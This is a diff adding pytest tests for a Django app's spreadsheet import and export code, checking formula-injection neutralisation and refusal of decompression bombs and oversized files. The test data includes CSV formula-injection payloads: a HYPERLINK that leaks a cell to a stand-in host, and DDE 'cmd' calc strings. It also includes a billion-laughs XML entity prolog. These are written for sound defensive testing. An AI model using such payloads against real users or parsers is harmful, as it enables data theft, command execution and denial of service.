@@ -2,6 +2,7 @@
 
 import datetime as dt
 import io
+import time
 import zipfile
 from typing import Any
 
@@ -9,14 +10,26 @@ import pytest
 from django.core.exceptions import ValidationError
 
 from adit.core.spreadsheets import (
+    READ_LIMITS,
     Problems,
+    ReadLimits,
     SpreadsheetError,
     csv_bytes,
+    export_text,
     parse_sheet_date,
     read_sheet,
     xlsx_bytes,
 )
-from adit.core.testing.sheets import csv_data, csv_upload, upload, xlsx_data, xlsx_upload
+from adit.core.testing.sheets import (
+    csv_data,
+    csv_upload,
+    raw_xlsx,
+    row_bomb_xlsx,
+    shared_strings_bomb_xlsx,
+    upload,
+    xlsx_data,
+    xlsx_upload,
+)
 
 COLUMNS = ("PatientID", "StudyDate", "Pseudonym")
 
@@ -182,8 +195,8 @@ def test_too_many_rows():
     with pytest.raises(SpreadsheetError) as error:
         read(file, max_rows=10, row_limit_hint=" for non-staff users")
     assert str(error.value) == (
-        "The file has 11 data rows; at most 10 are allowed for non-staff users. Split it into "
-        "several files."
+        "The file has more than 10 data rows; at most 10 are allowed for non-staff users. Split "
+        "it into several files."
     )
 
 
@@ -236,3 +249,177 @@ def test_written_files_read_back_as_text():
         assert as_tuples(read(upload(data, name))) == [
             (2, {"PatientID": "000123", "StudyDate": "2024-01-01"})
         ]
+
+
+# --- exports are data, never code ---------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-5",
+]
+
+
+def test_formula_triggers_get_a_quote_and_other_text_stays_as_it_is():
+    assert [export_text(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
+    assert export_text("CT Thorax = nativ") == "CT Thorax = nativ"
+    assert export_text("'=already quoted") == "'=already quoted"
+    assert export_text(12) == "12"
+    assert export_text(None) == ""
+    assert export_text("bell\x07") == "bell\ufffd"
+
+
+def test_xlsx_export_has_string_cells_only_and_no_formula():
+    data = xlsx_bytes(["=Header", "B"], [[value, "plain"] for value in HOSTILE])
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    assert sheet_xml.count("<c ") == sheet_xml.count('t="inlineStr"') == 2 * (len(HOSTILE) + 1)
+
+    import openpyxl
+
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert sheet is not None
+    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert values[0] == ["'=Header", "B"]
+    # (XML reads a CR in text as LF.)
+    assert [row[0] for row in values[1:]] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
+    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)
+
+
+def test_csv_export_quotes_every_field_and_neutralises_formulas():
+    import csv
+
+    text = csv_bytes(["A", "B"], [[value, "x;=1+1"] for value in HOSTILE]).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # Every field is quoted, so a separator inside a value never starts a new cell.
+    assert text.splitlines()[0] == '"A","B"'
+    assert '"x;=1+1"' in text
+
+
+def test_neutralised_exports_read_back_as_the_original_values():
+    header = ["PatientID", "StudyDate", "Pseudonym"]
+    rows = [["-5", "2024-01-01", '=HYPERLINK("http://evil.example/","x")'], ["@p", "", "+49"]]
+    for name, data in (("a.xlsx", xlsx_bytes(header, rows)), ("a.csv", csv_bytes(header, rows))):
+        assert as_tuples(read(upload(data, name))) == [
+            (2, {"PatientID": "-5", "StudyDate": "2024-01-01", "Pseudonym": rows[0][2]}),
+            (3, {"PatientID": "@p", "StudyDate": "", "Pseudonym": "+49"}),
+        ]
+
+
+# --- bombs and limits: refused fast, with the limit named ---------------------------------------
+
+STAFF = {"max_rows": 20000, "max_bytes": 5 * 1024 * 1024}
+
+
+def timed_error(data: bytes, name: str = "bomb.xlsx", **kwargs) -> tuple[str, float]:
+    start = time.monotonic()
+    with pytest.raises(SpreadsheetError) as error:
+        read(upload(data, name), **{**STAFF, **kwargs})
+    return str(error.value), time.monotonic() - start
+
+
+def test_a_million_compact_rows_are_refused_by_the_zip_ratio():
+    data = row_bomb_xlsx(1_000_000)
+    assert len(data) < 400 * 1024
+    message, seconds = timed_error(data)
+    assert "xl/worksheets/sheet1.xml unpacks to" in message
+    assert "at most 100 times are allowed" in message
+    assert seconds < 1
+
+
+def test_rows_beyond_the_limit_are_refused_while_streaming():
+    # Numbered rows compress like an ordinary sheet (ratio ~11): only the row count stops it.
+    data = row_bomb_xlsx(400_000, numbered=True)
+    message, seconds = timed_error(data)
+    assert message.startswith("A sheet of the file (xl/worksheets/sheet1.xml) has more than")
+    assert "at most 30001 are allowed" in message
+    assert seconds < 2
+
+
+def test_shared_strings_bomb_is_refused_before_unpacking():
+    data = shared_strings_bomb_xlsx(300)
+    assert len(data) < 400 * 1024
+    message, seconds = timed_error(data)
+    assert message == (
+        "The workbook is too large when unpacked: xl/sharedStrings.xml unpacks to 300 MiB; at "
+        "most 16 MiB are allowed for the shared-strings table."
+    )
+    assert seconds < 1
+
+
+def test_xml_entities_are_refused():
+    laughs = (
+        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
+        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
+    )
+    data = raw_xlsx(
+        ['<row><c t="inlineStr"><is><t>PatientID</t></is></c></row>',
+         '<row><c t="inlineStr"><is><t>&lol3;</t></is></c></row>'],
+        prolog=laughs,
+    )  # fmt: skip
+    message, _ = timed_error(data)
+    assert "DOCTYPE/ENTITY" in message
+
+
+def test_a_row_with_too_many_cells_is_refused():
+    cells = '<c s="1"/>' * 1001  # formatted empty cells
+    data = raw_xlsx(
+        ['<row><c t="inlineStr"><is><t>PatientID</t></is></c></row>', f"<row>{cells}</row>"]
+    )
+    message, _ = timed_error(data)
+    assert message == (
+        "Row 2 of xl/worksheets/sheet1.xml has more than 1000 cells; at most 1000 are allowed."
+    )
+
+
+def test_values_beyond_the_column_limit_are_refused():
+    rows = [["PatientID"] + [""] * 200 + ["X"], ["P1"] + [""] * 200 + ["Y"]]
+    for data, name in ((xlsx_data(rows), "wide.xlsx"), (csv_data(rows), "wide.csv")):
+        message, _ = timed_error(data, name)
+        assert message == "The file has values in more than 200 columns; at most 200 are allowed."
+
+
+def test_csv_rows_beyond_the_limit_are_refused_while_reading():
+    data = b"PatientID\n" + b"P\n" * 2_000_000  # 4 MB, two million rows
+    message, seconds = timed_error(data, "rows.csv", max_rows=1000, row_limit_hint=" for you")
+    assert message == (
+        "The file has more than 1000 data rows; at most 1000 are allowed for you. Split it "
+        "into several files."
+    )
+    assert seconds < 1
+
+
+def test_many_empty_rows_are_refused():
+    data = b"PatientID\nP1\n" + b",\n" * 20_000
+    message, _ = timed_error(data, "empty.csv", max_rows=100)
+    assert message.startswith("The file has more than 10101 rows (empty rows included)")
+
+
+def test_time_budget():
+    data = xlsx_data([["PatientID"]] + [[f"P{n}"] for n in range(2000)])
+    message, _ = timed_error(data, limits=ReadLimits(seconds=0))
+    assert message.startswith("Reading the file took longer than 0 seconds, the limit")
+
+
+def test_largest_ordinary_file_is_read_within_the_budget():
+    rows = [["PatientID", "StudyDate", "Pseudonym"]] + [
+        [f"P{n:07d}", dt.date(2024, 1, 1 + n % 28), f"PSN{n}"] for n in range(20000)
+    ]
+    start = time.monotonic()
+    assert len(read(xlsx_upload(rows), **STAFF)) == 20000
+    assert time.monotonic() - start < READ_LIMITS.seconds
+
+
+def test_filled_cells_are_limited_by_the_row_limit():
+    rows = [["PatientID"] + [f"C{n}" for n in range(30)]] + [["P"] * 31 for _ in range(200)]
+    message, _ = timed_error(xlsx_data(rows), max_rows=100)
+    assert message.startswith("The file has more than 2020 filled cells; at most 20 per allowed")
